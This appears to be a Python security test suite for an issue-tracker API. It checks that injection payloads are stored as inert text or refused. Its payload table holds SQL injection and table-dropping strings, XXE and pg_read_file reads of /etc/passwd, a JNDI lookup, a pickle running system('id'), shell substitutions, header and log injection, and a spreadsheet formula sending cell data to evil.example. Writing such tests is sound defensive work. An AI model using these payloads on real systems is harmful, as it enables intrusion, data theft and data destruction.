"""Somebody writes code where text belongs, for the database, a log, a header, a shell, a template or a spreadsheet.

Each payload goes into each place: every answer is one of the contract's and comes at once, stored text comes back as it
was sent, nothing else is stored, no header or log line is made up, and nothing of it is found in the log.
"""

import io
import json
import logging
import re
import unicodedata
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any, NamedTuple
from urllib.parse import quote

import httpx2
import pytest

from operations.openapi import ENDPOINTS
from shared.observability.logs import JsonFormatter
from tests.support.accounts import login, outcome
from tests.support.api import Api
from tests.support.fixtures import Owner
from tests.support.people import PASSWORD
from tests.support.state import counts
from tests.support.world import World

PAYLOADS = {
    "sql-quote": "' OR 1=1",
    "sql-quote-and-comment": "admin'--",
    "sql-quote-after-a-backslash": "\\' OR 1=1",
    "sql-quote-of-full-width": "\N{FULLWIDTH APOSTROPHE} OR 1=1",
    "sql-double-quote": 'id"; DROP TABLE users; --',
    "sql-stacked": "'; DROP TABLE issues; --",
    "sql-stacked-rights": "'; UPDATE users SET role = 'admin'; --",
    "sql-union": "' UNION SELECT password_hash FROM users --",
    "sql-sleep": "'||(SELECT pg_sleep(5))||'",
    "sql-sleep-without-a-quote": "1; SELECT pg_sleep(5)",
    "sql-cast": "1::regclass",
    "sql-cast-that-tells": "' AND 1=CAST((SELECT version()) AS int) --",
    "sql-case-in-a-sort": "(CASE WHEN 1=1 THEN title END)",
    "sql-sort-by-a-secret": "title,password_hash",
    "sql-limit": "1 OFFSET 0; --",
    "sql-dollar-quotes": "$$; DROP TABLE users; $$",
    "sql-unicode-escape": "U&'\\0027 OR 1=1'",
    "sql-backslash-at-the-end": "a\\",
    "sql-file": "pg_read_file('/etc/passwd')",
    "sql-like-everything": "%_%\\%",
    "sql-null": "' OR 1=1\0 --",
    "search-operators": "a & !b | (c",
    "search-phrase": "a <-> b <3> c",
    "search-prefix-and-weight": "a:*ABCD",
    "search-left-open": "(((((a",
    "json-path": "$.** ? (@.role == 'admin')",
    "driver-placeholder": "%s %b %t",
    "driver-named-placeholder": "%(search)s %(session_id)s",
    "driver-broken-placeholder": "100%(",
    "numbered-placeholder": "$1 $2",
    "format-string": "{0.__class__.__init__.__globals__} {secret!r:>{width}}",
    "printf": "%n%n%s%x%1000000d",
    "template-braces": "{{7*7}}{% import os %}{# x #}",
    "template-dollar": "${7*7} #{7*7} <%= 7*7 %>",
    "template-lookup": "${jndi:ldap://evil.example/x}",
    "pickle": "cos\nsystem\n(S'id'\ntR.",
    "shell-substitution": "$(id)`id`",
    "shell-sequence": "; id | id && id\nid",
    "ldap": "*)(uid=*))(|(uid=*",
    "document-store": '{"$gt": ""}',
    "xml-entity": "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    "redis-commands": "x\r\nFLUSHALL\r\n*1\r\n$8\r\nSHUTDOWN\r\n",
    "lua": "']]..redis.call('FLUSHALL')..[['",
    "formula": '=HYPERLINK("https://evil.example"&A1)',
    "formula-of-a-command": "+cmd|'/C calc'!A0",
    "formula-after-a-tab": "\t=1+1",
    "header": "x\r\nX-Injected: yes\r\nSet-Cookie: x=y",
    "header-and-body": "x\r\n\r\n<script>alert(1)</script>",
    "header-percent-encoded": "x%0d%0aX-Injected:%20yes",
    "header-in-letters-cut-to-octets": "x\u560d\u560aX-Injected: yes",
    "header-after-a-line-separator": "x\u2028X-Injected: yes\x85Set-Cookie: x=y",
    "header-of-a-link": '</evil>; rel="next", <https://evil.example/?',
    "log-line": 'x\n{"level": "info", "user_id": "admin", "message": "signed in"}',
    "terminal-colours": "\x1b[2J\x1b[31mroot\x1b[0m",
    "terminal-backspaces": "secret\x08\x08\x08\x08\x08\x08\x7f",
    "reversed-text": "\N{RIGHT-TO-LEFT OVERRIDE}nimda\N{POP DIRECTIONAL FORMATTING}",
    "invisible-text": "\N{ZERO WIDTH SPACE}\N{ZERO WIDTH JOINER}\N{ZERO WIDTH NO-BREAK SPACE}",
    "no-characters": "\uffff\ufdd0\U0010ffff",
    "letters-that-grow-when-folded": "\N{LATIN SMALL LETTER SHARP S}" * 200,
    "letters-beyond-the-first-plane": "\N{MATHEMATICAL FRAKTUR CAPITAL U}" * 200,
    "letters-in-two-parts": "e\N{COMBINING ACUTE ACCENT}" * 200,
    "words-without-end": "a " * 100,
}
Status = Callable[[str], int]
Options = dict[str, Any]


class Place(NamedTuple):
    """Somewhere to write a payload."""

    request: str
    send: Callable[[str], Options]
    status: Status


def text(status: int, longest: int) -> Status:
    """This answer, but for text that is too long or cannot be stored."""
    return lambda payload: 422 if "\0" in payload or len(trimmed(payload)) > longest else status


def trimmed(payload: str) -> str:
    """As text is stored."""
    return unicodedata.normalize("NFC", payload).strip()


def visible(payload: str) -> str:
    """As a header can carry it: what no parser of HTTP lets through is percent-encoded."""
    return re.sub(r"[^ -~]", lambda found: quote(found[0]), payload).strip()


def refused(_payload: str) -> int:
    """Nothing of the kind is taken; every parameter or member with the payload is told."""
    return 422


def query(*names: str, **others: str) -> Callable[[str], Options]:
    """The value of each of these parameters."""
    return lambda payload: {"params": {**others, **dict.fromkeys(names, payload)}}


def body(*names: str, **others: str) -> Callable[[str], Options]:
    """The value of each of these members."""
    return lambda payload: {"json": {**others, **dict.fromkeys(names, payload)}}


def searched(payload: str) -> Options:
    """A search, in a request whose every header says the same."""
    return {"params": {"search": payload, "limit": "1"}, "headers": dict.fromkeys(HEADERS, visible(payload))}


def commented(payload: str) -> Options:
    """A comment, and the key under which it is sent."""
    return {"json": {"content": payload}, "headers": {"Idempotency-Key": visible(payload).replace(" ", "+")[:255]}}


HEADERS = ["User-Agent", "Referer", "Origin", "Cookie", "Range", "Accept", "Accept-Language", "Forwarded", "Via"]
HEADERS += ["X-Forwarded-For", "X-Forwarded-Host", "X-Request-ID", "traceparent", "tracestate", "Content-Type"]
HEADERS += ["If-None-Match", "If-Match", "Idempotency-Key", "X-HTTP-Method-Override", "X-Original-URL"]
PLACES = {
    "search-of-issues-and-headers": Place("GET /api/issues", searched, text(200, 200)),
    "search-of-projects": Place("GET /api/projects", query("search", limit="1"), text(200, 200)),
    "search-of-users": Place("GET /api/users", query("search", limit="1"), text(200, 200)),
    "filters-of-issues": Place(
        "GET /api/issues",
        query("status", "priority", "assignee", "project", "reporter", "sort", "page", "limit"),
        refused,
    ),
    "filters-of-the-audit-log-and-a-name": Place(
        "GET /api/audit",
        lambda payload: {"params": {**dict.fromkeys(("actor", "action", "target", "since"), payload), payload: "1"}},
        refused,
    ),
    "account-and-a-name": Place(
        "POST /api/auth/register",
        lambda payload: {"json": {"username": payload, "email": payload, "password": PASSWORD, payload: 1}},
        refused,
    ),
    "id-in-the-path": Place("GET /api/issues/", lambda payload: {"url": quote(payload, safe="")}, lambda _payload: 404),
    "refresh-token": Place("POST /api/auth/refresh", body("refresh_token"), text(401, 1_000_000)),
    "project": Place("POST /api/projects", body("name", "description"), text(201, 100)),
    "issue": Place("POST /api/projects/{project}/issues", body("title", "description"), text(201, 200)),
    "comment-and-its-key": Place("POST /api/issues/{issue}/comments", commented, text(201, 2000)),
}
TABLES = {"project": "projects", "issue": "issues", "comment-and-its-key": "comments"}
ROUTES = {endpoint.path for endpoint in ENDPOINTS} | {"unmatched"}
LOGGED = {"time", "level", "message", "function", "request_id", "trace_id", "user_id", "method", "route", "status"}


def send(world: World, place: Place, payload: str) -> httpx2.Response:
    """Write a payload into a place."""
    options = place.send(payload)
    method, _, route = place.request.partition(" ")
    route = route.format(issue=world.issue["id"], project=world.project["id"]) + options.pop("url", "")
    answer = world.admin.api.request(method, route, **options)
    assert answer.elapsed.total_seconds() < 1
    assert not {"x-injected", "set-cookie"} & set(answer.headers)
    assert re.fullmatch(r'(<[/\w]+[?#][\w%=&+.*-]+>; rel="\w+"(, |$))*', answer.headers.get("link", ""))
    sent = options.get("json") or options.get("params", {})
    if place.status is refused:
        assert len(answer.json()["errors"]) == sum(payload in item for item in sent.items())
    elif answer.status_code == 201:
        assert {name: answer.json()[name] for name in sent} == {name: trimmed(value) for name, value in sent.items()}
    return answer


@pytest.fixture
def log() -> Iterator[Callable[[], list[str]]]:
    """The lines of the log so far."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(JsonFormatter("tests"))
    logger = logging.getLogger("flycatcher.request")
    level, logger.propagate = logger.level, False
    logger.addHandler(handler)
    logger.setLevel("INFO")
    yield lambda: stream.getvalue().splitlines()
    logger.removeHandler(handler)
    logger.setLevel(level)
    logger.propagate = True


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_code_is_nothing_but_text(
    standing: World, housekeeper: Owner, log: Callable[[], list[str]], payload: str
) -> None:
    before = counts(housekeeper)
    statuses = {name: send(standing, place, payload).status_code for name, place in PLACES.items()}
    assert statuses == {name: place.status(payload) for name, place in PLACES.items()}
    for name, table in TABLES.items():
        before[table] += statuses[name] == 201
    assert counts(housekeeper) == before
    lines = [json.loads(line) for line in log()]
    assert [line["status"] for line in lines] == list(statuses.values())
    for line in lines:
        assert set(line) == LOGGED | {"duration_ms"}
        assert (line["message"], line["trace_id"], line["route"] in ROUTES) == ("request", None, True)
        assert re.fullmatch("[0-9a-f]{32}", line["request_id"])


@pytest.mark.parametrize("kinds", [("sql-quote", "sql-union", "sql-sleep"), ("ldap", "document", "driver-n")])
def test_code_signs_nobody_in(standing: World, nobody: Api, kinds: tuple[str, ...]) -> None:
    payloads = [payload for name, payload in PAYLOADS.items() if name.startswith(kinds)]
    names = [*payloads, *(f"{standing.admin.username}{payload}" for payload in payloads[:2])]
    with ThreadPoolExecutor(2) as threads:
        answers = list(threads.map(lambda name: login(nobody, name, name), names))
    for answer in answers:
        assert outcome(answer) == (401, "invalid_credentials")
        assert answer.elapsed.total_seconds() < 1
    assert login(nobody, standing.admin.username).status_code == 200
